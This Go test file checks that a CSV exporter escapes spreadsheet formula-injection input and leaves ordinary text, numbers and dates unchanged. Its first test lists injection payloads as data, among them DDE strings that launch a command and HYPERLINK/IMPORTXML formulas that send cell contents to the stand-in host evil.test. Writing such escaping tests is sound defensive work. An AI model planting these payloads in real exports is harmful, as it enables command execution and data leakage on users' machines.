package csvexport

import (
	"testing"

	"portal/api/clock"
	"portal/api/money"
)

func TestNoTextIsAFormula(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", `=cmd|' /C calc'!A0`,
		`=HYPERLINK("https://evil.test?x="&A1,"Open")`, `=IMPORTXML(CONCAT("https://evil.test/",A1),"//a")`,
		`-2+3+cmd|' /C calc'!E1`, "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", `-`, `=`,
	} {
		if got := Text(s).text; got != "'"+s {
			t.Errorf("%q is %q", s, got)
		}
		if got := TextOr(&s).text; got != "'"+s {
			t.Errorf("%q is %q where it may be absent", s, got)
		}
	}
}

func TestOtherTextStaysAsItIs(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		"", "Dana Whitfield", "a=b", "(512) 555-0142", "José Ñandú", "O'Brien", `"quoted"`, "one, two", "line\nline", "1450.00",
	} {
		if got := Text(s).text; got != s {
			t.Errorf("%q is %q", s, got)
		}
	}
	if got := Text("a\xffb").text; got != "a\uFFFDb" {
		t.Errorf("invalid UTF-8 is %q", got)
	}
}

func TestNumbersAndDatesStayWhatTheyAre(t *testing.T) {
	t.Parallel()
	at := clock.At(clock.Day(2026, 11, 26).Std())
	for want, got := range map[string]Value{
		"-1450.00":   Of(money.Dollars(-1450)),
		"1450.50":    Or(new(money.Cents(145_050))),
		"-3":         Number(-3),
		"1974":       NumberOr(new(1974)),
		"2026-11-26": Of(clock.Day(2026, 11, 26)),
		at.String():  Or(&at),
	} {
		if got.text != want {
			t.Errorf("%q, want %q", got.text, want)
		}
	}
	for name, absent := range map[string]Value{
		"text":   TextOr[string](nil),
		"amount": Or[money.Cents](nil),
		"number": NumberOr(nil),
		"day":    Or[clock.Date](nil),
	} {
		if absent.text != "" {
			t.Errorf("an absent %s is %q", name, absent.text)
		}
	}
}
